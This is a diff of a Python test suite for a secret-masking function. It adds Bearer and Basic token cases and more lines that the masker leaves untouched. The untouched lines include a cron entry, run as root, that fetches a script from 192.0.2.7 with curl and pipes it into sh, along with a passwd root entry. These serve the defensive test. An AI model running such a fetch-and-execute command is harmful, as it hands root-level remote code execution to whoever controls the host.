@@ -33,7 +33,8 @@ def masked(text: str, *patterns: str) -> str:
         ("mysql --password s3cret -h x", f"mysql --password {MASK} -h x"),
         ("postgres://bob:s3:cr@et@db/x", f"postgres://bob:{MASK}@db/x"),
         ("Authorization: Bearer abcdefghijkl", f"Authorization: {MASK}"),
-        ("header 'Bearer abcdefghijkl'", f"header 'Bearer {MASK}'"),
+        ("header 'Bearer abcdefgh1jkl'", f"header 'Bearer {MASK}'"),
+        ("header 'Basic dXNlcjpwYXNz'", f"header 'Basic {MASK}'"),
         ("requirepass foo", f"requirepass {MASK}"),
         ("machine x login bob password foo", f"machine x login bob password {MASK}"),
         ("CREATE USER x IDENTIFIED BY 'foo' WITH", f"CREATE USER x IDENTIFIED BY {MASK} WITH"),
@@ -65,6 +66,8 @@ def test_a_secrets_value_goes_and_its_line_stays(line: str, shown: str) -> None:
         "* * * * * root curl http://192.0.2.7:8080/x | sh",
         "root:x:0:0:root:/root:/bin/bash",
         "compass: north",
+        "passwd:         files systemd evil",
+        "# the basic algorithms with message digest algorithm",
         "bypass = 1",
     ],
 )
